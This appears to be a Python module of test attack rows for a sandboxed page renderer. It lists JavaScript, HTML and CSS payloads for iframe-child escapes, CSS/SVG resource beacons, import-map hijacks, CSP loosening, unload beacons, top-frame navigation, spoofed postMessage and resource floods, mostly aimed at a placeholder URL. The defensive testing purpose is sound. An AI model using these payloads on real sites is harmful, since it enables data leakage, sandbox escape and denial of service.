"""Attacks thought of later: by children of the frame, by what newer browsers can, by what a message may carry. Rows as
in table.py."""

from tests.attacks.newest import CHILD
from tests.attacks.table import FETCH, SCRIPT, html, link, style

STILL: dict[str, str] = {
    "child-peer-srcdoc-javascript": "const f = d.createElement('iframe'); f.src = `javascript:'<script>new RTCPeerConnection({iceServers:[{urls:\"${stun}\"}]})</scr' + 'ipt>'`; box.append(f)",
    "child-fetch-later": CHILD + "c.fetchLater(u, {activateAfter: 0})",
    "child-transport": CHILD + "await new c.WebTransport(u.replace('http:', 'https:')).ready",
    "child-shared-worker": CHILD + "new c.SharedWorker(u + '.js')",
    "child-form": CHILD
    + "c.document.body.innerHTML = `<form action='${u}'><input name=a></form>`; c.document.forms[0].submit()",
    "child-meta-refresh": CHILD
    + "c.document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${u}'>`",
    "child-link-click": CHILD
    + "c.document.body.innerHTML = `<a href='${u}'>x</a>`; c.document.links[0].click()",
    "child-document-open": CHILD + f"c.document.open(); c.document.write({SCRIPT}); c.document.close()",
    "child-base": CHILD
    + "c.document.head.innerHTML = `<base href='${u}/'>`; c.document.body.innerHTML = `<img src=a><script src=b></scr` + `ipt>`",
    "child-cookie": CHILD + "c.document.cookie = 'a=b'; if (c.document.cookie) leak('a cookie of a child')",
    "child-storage": CHILD + "c.localStorage.setItem('a', 'b'); leak('storage of a child')",
    "child-history": CHILD + "c.history.pushState(0, '', u)",
    "data-child-top": "const f = d.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(`<script>top.location = '${u}'</scr` + `ipt>`); box.append(f)",
    "import-map-own": "const s = d.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({imports: {[d.scripts[0]?.src ?? 'x']: u + '.js'}}); d.head.prepend(s)",
    "import-map-integrity": "const s = d.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({integrity: {[u + '.js']: 'sha256-x'}}); d.head.append(s); const m = d.createElement('link'); m.rel = 'modulepreload'; m.href = u + '.js'; d.head.append(m)",
    "stylesheet-processing": "const p = d.createProcessingInstruction('xml-stylesheet', `href='${u}.css' type='text/css'`); d.insertBefore(p, d.documentElement)",
    "xml-frame": "const f = d.createElement('iframe'); f.src = w.URL.createObjectURL(new Blob([`<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='${u}.xsl'?><a/>`], {type: 'text/xml'})); box.append(f)",
    "svg-use-data": html(
        '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg"><image href="${u}"/></svg>#x\'/></svg>'
    ),
    "svg-set-href": html("<svg><image width=9 height=9><set attributeName=href to='${u}' /></image></svg>"),
    "svg-mask": html(
        "<svg><rect mask='url(${u}.svg#m)' clip-path='url(${u}.svg#c)' width=9 height=9 /></svg>"
    ),
    "svg-text-path": html("<svg><text><textPath href='${u}.svg#p'>x</textPath></text></svg>"),
    "svg-mpath": html(
        "<svg><circle r=3><animateMotion dur=1s><mpath href='${u}.svg#p'/></animateMotion></circle></svg>"
    ),
    "svg-cursor": html(
        "<svg><linearGradient href='${u}.svg#g' id=lg /><rect fill='url(#lg)' width=9 height=9 /></svg>"
    ),
    "css-layer-import": style(
        "@layer a, b; @import url('${u}.css') layer(a) supports(display: flex) screen;"
    ),
    "css-document-font-feature": style(
        "@font-face { font-family: fm; src: local('x'), url('${u}.woff2') format('woff2') tech(variations); unicode-range: U+78 } .att { font-family: fm }"
    ),
    "css-font-palette": style(
        "@font-palette-values --x { font-family: att2; base-palette: 0; } @font-face { font-family: att2; src: url('${u}.woff') } .att { font-family: att2; font-palette: --x }"
    ),
    "css-custom-highlight": style(
        "::highlight(h) { background: url('${u}') } ::selection { background: url('${u}') }"
    )
    + "const r = new w.Range(); r.selectNodeContents(box); w.CSS.highlights.set('h', new w.Highlight(r))",
    "css-scrollbar": style(
        "::-webkit-scrollbar { background: url('${u}') } #box { height: 9px; overflow: scroll }"
    ),
    "css-placeholder": style(
        "::placeholder, ::file-selector-button, ::backdrop, ::details-content { background: url('${u}') }"
    )
    + html("<input placeholder=x><input type=file><dialog>x</dialog>")
    + "box.querySelector('dialog').showModal(); box.querySelector('dialog').close()",
    "css-media-leak": style(
        "@media (prefers-color-scheme: light) { .att { background: url('${u}') } } @media (pointer: fine) { .att { border-image: url('${u}') 3 } }"
    ),
    "css-visited": style(":visited { background: url('${u}') } :link { list-style: url('${u}') }")
    + html("<a href='/'>x</a>"),
    "css-container": style(
        "#box { container-type: size; width: 99px; height: 99px } @container (width > 9px) { .att { background: url('${u}') } }"
    ),
    "css-worklet-animation": "await w.CSS.animationWorklet.addModule(u + '.js')",
    "css-layout-worklet": "await w.CSS.layoutWorklet.addModule(u + '.js')",
    "css-constructed-import": "const s = new w.CSSStyleSheet({baseURL: u + '/'}); s.replaceSync('* { background: url(rel) }'); d.adoptedStyleSheets = [...d.adoptedStyleSheets, s]; await wait(100); d.adoptedStyleSheets = []",
    "css-insert-rule": "const s = d.createElement('style'); d.head.append(s); s.sheet.insertRule(`@import url('${u}.css')`); s.sheet.insertRule(`* { cursor: url('${u}'), auto }`, 1); await wait(100); s.remove()",
    "shadow-adopted": "const e = d.createElement('div'); box.append(e); const r = e.attachShadow({mode: 'open'}); const s = new w.CSSStyleSheet(); s.replaceSync(`:host { background: url('${u}') }`); r.adoptedStyleSheets = [s]",
    "view-transition-type": style(
        "::view-transition-group(root), ::view-transition-new(root) { background: url('${u}') }"
    )
    + "const t = d.startViewTransition(() => 0); await t.ready; await wait(100)",
    "canvas-pattern": "const i = new w.Image(); i.src = u; const b = await w.createImageBitmap(i); leak('a bitmap')",
    "offscreen-font": "const f = new w.FontFace('att3', `url(${u}.woff2)`); d.fonts.add(f); await d.fonts.load('9px att3')",
    "image-decoder": "await new w.ImageDecoder({type: 'image/png', data: (await real.fetch(u)).body}).decode()",
    "media-source": "const m = new w.MediaSource(); const v = d.createElement('video'); v.src = w.URL.createObjectURL(m); v.setAttribute('crossorigin', ''); const s = d.createElement('source'); s.src = u; v.append(s); box.append(v); v.removeAttribute('src'); v.load()",
    "remote-playback": "const v = d.createElement('video'); v.src = u; await v.remote.prompt(); leak('a remote screen')",
    "media-session": "w.navigator.mediaSession.metadata = new w.MediaMetadata({title: 'x', artwork: [{src: u, sizes: '96x96', type: 'image/png'}]}); w.navigator.mediaSession.playbackState = 'playing'",
    "key-system": "await w.navigator.requestMediaKeySystemAccess('org.w3.clearkey', [{initDataTypes: ['cenc'], videoCapabilities: [{contentType: 'video/mp4; codecs=\"avc1.42E01E\"'}]}]); leak('a key system')",
    "digital-goods": "await w.getDigitalGoodsService(u); leak('digital goods')",
    "secure-payment": "await new w.PaymentRequest([{supportedMethods: 'secure-payment-confirmation', data: {rpId: 'x.example', credentialIds: [new Uint8Array(9)], challenge: new Uint8Array(9), instrument: {displayName: 'x', icon: u}}}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "background-fetch": "const r = await real.navigator?.serviceWorker?.ready; await r.backgroundFetch.fetch('x', [u])",
    "background-sync": "const g = w.Navigator.prototype.__lookupGetter__('serviceWorker').call(w.navigator); await (await g.getRegistration()).sync.register('x'); leak('sync')",
    "meta-report-to": html(
        '<meta http-equiv=\'Report-To\' content=\'{"endpoints":[{"url":"${u}"}]}\'><meta http-equiv=\'Reporting-Endpoints\' content=\'a="${u}"\'><meta http-equiv=\'NEL\' content=\'{"report_to":"a","max_age":9}\'>'
    )
    + "d.head.append(...box.querySelectorAll('meta'))",
    "meta-link-header": html(
        "<meta http-equiv=Link content='<${u}>; rel=preload; as=image'><meta http-equiv=Refresh-Hint content='${u}'><meta http-equiv=set-cookie content='a=b'>"
    )
    + "d.head.append(...box.querySelectorAll('meta'))",
    "meta-referrer": html("<meta name=referrer content=unsafe-url><img src='${u}'>")
    + "d.head.append(box.querySelector('meta[name=referrer]'))",
    "meta-csp-loosened": html(
        "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\">"
    )
    + f"d.head.append(box.lastElementChild); const s = d.createElement('script'); s.textContent = `{FETCH}`; d.head.append(s)",
    "trusted-types": "w.trustedTypes.createPolicy('default', {createHTML: (x) => x, createScriptURL: () => u + '.js', createScript: (x) => x}); const s = d.createElement('script'); s.src = 'x.js'; d.head.append(s)",
    "document-write-late": "const s = d.createElement('script'); s.defer = true; s.src = u + '.js'; d.body.append(s); const t = d.createElement('script'); t.noModule = true; t.src = u + '.js'; d.body.append(t)",
    "portal": "const p = d.createElement('portal'); p.src = u; box.append(p); const g = d.createElement('controlledframe'); g.src = u; box.append(g); const v = d.createElement('webview'); v.src = u; box.append(v)",
    "applet": html(
        "<applet code='${u}' archive='${u}.jar'></applet><bgsound src='${u}'><keygen keytype=rsa><isindex action='${u}'>"
    ),
    "object-param": html(
        "<object><param name=movie value='${u}'><param name=src value='${u}'><embed src='${u}' pluginspage='${u}'></object>"
    ),
    "input-src-type": "const i = d.createElement('input'); i.src = u; box.append(i); i.type = 'image'",
    "link-alternate": link("rel: 'alternate stylesheet', title: 'x'"),
    "link-media-flip": "const l = d.createElement('link'); l.rel = 'stylesheet'; l.media = 'print'; l.href = u + '.css'; d.head.append(l); l.media = 'all'; await wait(200)",
    "link-pingback": link("rel: 'pingback'")
    + "for (const rel of ['next', 'prev', 'canonical', 'help', 'license', 'author', 'me', 'subresource', 'import', 'shortcut icon', 'mask-icon', 'fluid-icon', 'serviceworker', 'prerender', 'early-hints', 'service-desc', 'trust-token', 'web-app']) d.head.append(Object.assign(d.createElement('link'), {rel, href: u}))",
    "shared-worker-extended": "new real.SharedWorker(u + '.js', {extendedLifetime: true, sameSiteCookies: 'none'})",
    "worker-type-module": "new real.Worker(u + '.js', {type: 'module', credentials: 'include'})",
    "audio-element-api": "new w.Audio(u).play(); new w.Audio().src = u",
    "web-socket-error-oracle": "await new Promise((done) => { const s = new real.WebSocket(ws); s.onopen = () => leak('a socket'); s.onerror = s.onclose = done })",
    "performance-entries": "for (const e of w.performance.getEntries()) if (/\\/s\\/|\\/api\\//.test(e.name)) leak('an address of the page ' + e.name)",
    "referrer": "if (d.referrer) leak('the address of the page')",
    "ancestor-origins": "const a = w.Location.prototype; const o = d.location.ancestorOrigins; if (o && o.length && /\\/s\\//.test(o[0])) leak('the path of the page')",
    "page-name": "try { if (w.parent.name || w.top.name) leak('a name') } catch { }",
    "page-closed": "w.parent.close(); w.top.close(); w.parent.blur(); w.top.focus()",
    "page-stop": "try { w.parent.stop() } catch { } try { w.top.print() } catch { }",
    "message-ports": "const all = []; for (let n = 0; n < 300; n++) all.push(new w.MessageChannel().port1); w.parent.postMessage({type: 'ready'}, '*', all)",
    "message-stream": "const r = new w.ReadableStream(); w.parent.postMessage({type: 'console', lines: [], r}, '*', [r])",
    "message-bitmap": "const b = await w.createImageBitmap(new w.ImageData(9, 9)); w.parent.postMessage({type: 'pong', b}, '*', [b])",
    "message-canvas": "const o = d.createElement('canvas').transferControlToOffscreen(); w.parent.postMessage({type: 'pong', o}, '*', [o])",
    "message-delegate": "w.parent.postMessage({type: 'download', name: 'x', mime: '', bytes: new ArrayBuffer(9)}, {targetOrigin: '*', delegate: 'payment'})",
    "message-activation": "w.parent.postMessage({type: 'open', url: u}, {targetOrigin: '*', includeUserActivation: true})",
    "message-as-page": "w.postMessage({type: 'render', id: 99, final: true, dark: false, entry: 'x.tsx', files: {'x.tsx': `export default () => { document.title = 'taken'; return null }`}}, '*'); await wait(200); if (d.title === 'taken') leak('own message taken for the page')",
    "message-as-child": "const f = d.createElement('iframe'); f.srcdoc = 'x'; box.append(f); await wait(100); f.contentWindow.eval?.(`parent.parent.postMessage({type: 'open', url: '${u}'}, '*')`)",
    "speech-synthesis": "w.speechSynthesis.speak(new w.SpeechSynthesisUtterance('x')); if (w.speechSynthesis.getVoices().length) leak('voices')",
    "xr": "if (await w.navigator.xr.isSessionSupported('immersive-vr')) leak('xr')",
    "device-events": "await w.DeviceMotionEvent.requestPermission?.(); w.addEventListener('devicemotion', (e) => { if (e.acceleration?.x) leak('motion') }); w.addEventListener('deviceorientation', (e) => { if (e.alpha) leak('orientation') })",
    "orientation-lock": "await w.screen.orientation.lock('portrait'); leak('orientation lock')",
    "virtual-keyboard": "w.navigator.virtualKeyboard.overlaysContent = true; w.navigator.virtualKeyboard.show()",
    "install": "await w.navigator.install?.(u); if (w.navigator.install) leak('installed')",
    "execCommand-paste": "const t = d.createElement('textarea'); box.append(t); w.Document.prototype.execCommand.call(d, 'paste'); if (t.value) leak(t.value)",
    "contacts-autofill": html(
        "<form><input autocomplete=email name=email><input autocomplete='cc-number' name=cc><input type=password autocomplete=current-password></form>"
    )
    + "await wait(300); for (const i of box.querySelectorAll('form input')) if (i.value) leak('autofill')",
    "writer": "await w.Writer.create(); leak('writer')",
    "rewriter": "await w.Rewriter.create(); leak('rewriter')",
    "proofreader": "await w.Proofreader.create(); leak('proofreader')",
    "language-detector": "await w.LanguageDetector.create(); leak('language detector')",
    "handwriting": "await w.navigator.createHandwritingRecognizer({languages: ['en']}); leak('handwriting')",
    "managed": "await w.navigator.managed.getAnnotatedAssetId(); leak('a device')",
    "related-apps": "if ((await w.navigator.getInstalledRelatedApps()).length) leak('apps')",
    "smart-card": "await w.navigator.smartCard.establishContext(); leak('smart card')",
    "federated-disconnect": "await w.IdentityCredential.disconnect({configURL: u + '.json', clientId: 'x', accountHint: 'a'})",
    "federated-user-info": "await w.IdentityProvider.getUserInfo({configURL: u + '.json', clientId: 'x'})",
    "login-status": "await w.navigator.login.setStatus('logged-in')",
    "otp": "if (await w.navigator.credentials.get({otp: {transport: ['sms']}})) leak('a code')",
    "passkey-endpoint": "await w.PublicKeyCredential.signalUnknownCredential({rpId: 'x.example', credentialId: 'eA'})",
    "protected-auction": "await w.navigator.runAdAuction({seller: u, decisionLogicURL: u + '.js', interestGroupBuyers: [u]})",
    "private-aggregation": "w.privateAggregation.contributeToHistogram({bucket: 1n, value: 1})",
    "fence-report": "w.fence.reportEvent({eventType: 'x', destinationURL: u}); w.fence.setReportEventDataForAutomaticBeacons?.({eventType: 'x', eventData: 'y', destination: ['buyer']})",
    "interest-cohort": "await d.interestCohort(); leak('cohort')",
    "has-private-token": "await d.hasPrivateToken(u); await d.hasRedemptionRecord(u)",
    "storage-bucket-unpartitioned": "const h = await d.requestStorageAccess({all: true, cookies: true}); leak('unpartitioned storage')",
    "soft-navigation": "w.History.prototype.replaceState.call(real.history, null, '', d.location.pathname + '?' + encodeURIComponent(u))",
    "scroll-to-text": "d.location.hash = ':~:text=x'; if (d.fragmentDirective?.items?.length) leak('text')",
    "window-open-noopener": "real.open(u, 'x', 'noopener,noreferrer,popup,width=9,height=9')",
    "prefers-leak": style(
        "@media (prefers-reduced-motion: no-preference) { #box { mask: url('${u}') } } @media (hover: hover) { #box { cursor: url('${u}'), auto } }"
    ),
    "print-media-leak": style("@media print { * { background: url('${u}') } }") + "real.print()",
}

LEAVING: dict[str, str] = {
    "navigation-intercept": "w.navigation.addEventListener('navigate', (e) => e.intercept?.({handler: () => new Promise(() => {})})); d.location.href = u",
    "unload-requests": "w.addEventListener('pagehide', () => { w.Navigator.prototype.sendBeacon.call(w.navigator, u, 'x'); real.fetch(u, {mode: 'no-cors', keepalive: true}) }); d.location.reload()",
    "beforeunload-trap": "w.onbeforeunload = (e) => { e.preventDefault(); return 'stay' }; d.location.href = u",
    "view-transition-leaving": style("@view-transition { navigation: auto }") + "d.location.reload()",
    "other-programs": "for (const to of ['ms-settings:x', 'intent://x#Intent;end', 'sms:1', 'view-source:' + u, 'chrome://crash', 'about:srcdoc', 'filesystem:' + u]) d.location.href = to",
    "base-target": "const b = d.createElement('base'); b.target = '_top'; d.head.append(b);"
    + html("<a href='${u}'>x</a>")
    + "real.click.call(box.querySelector('a'))",
    "form-top": html("<form method=post target=_top action='${u}'><input name=a value=b></form>")
    + "real.submit.call(box.querySelector('form'))",
    "open-replaced": "d.open('text/html', 'replace'); d.write(`<meta http-equiv=refresh content='0;url=${u}'>`); d.close()",
}

FLOODS: dict[str, str] = {
    "own-files": "const own = d.querySelector('script[src]').src; w.setInterval(() => { for (let n = 0; n < 50; n++) { const s = d.createElement('script'); s.type = 'module'; s.src = own + '?' + Math.random(); d.head.append(s) } }, 20)",
    "handed-over-buffers": "const go = () => { for (let n = 0; n < 20; n++) { const bytes = new w.ArrayBuffer(4e6); w.parent.postMessage({type: 'download', name: 'x', mime: '', bytes}, '*', [bytes]) } w.setTimeout(go) }; go()",
    "handed-over-ports": "const go = () => { const ports = []; for (let n = 0; n < 500; n++) ports.push(new w.MessageChannel().port1); w.parent.postMessage({type: 'pong', id: 1}, '*', ports); w.setTimeout(go, 20) }; go()",
    "deep-messages": "let deep = {}; for (let n = 0; n < 2000; n++) deep = {deep, also: [n]}; const go = () => { for (let n = 0; n < 50; n++) w.parent.postMessage({type: 'console', lines: [{text: deep, place: deep}]}, '*'); w.setTimeout(go) }; go()",
    "kept-flood": "const local = {}; for (let n = 0; n < 400; n++) local['k' + n] = 'x'.repeat(600); w.setInterval(() => { for (let n = 0; n < 20; n++) w.parent.postMessage({type: 'kept', kept: {local, session: {}}}, '*') }, 0)",
    "modal-flood": "w.setInterval(() => { real.alert('x'); real.confirm('x'); real.prompt('x'); real.print() }, 0)",
}
"""Each takes what it can, for some seconds. As in flood.py."""

FOCUS: dict[str, str] = {
    "report-validity": "i.required = true; i.value = ''; i.reportValidity()",
    "picker": "i.type = 'date'; try { i.showPicker() } catch {} i.type = 'text'; i.focus({focusVisible: true})",
}
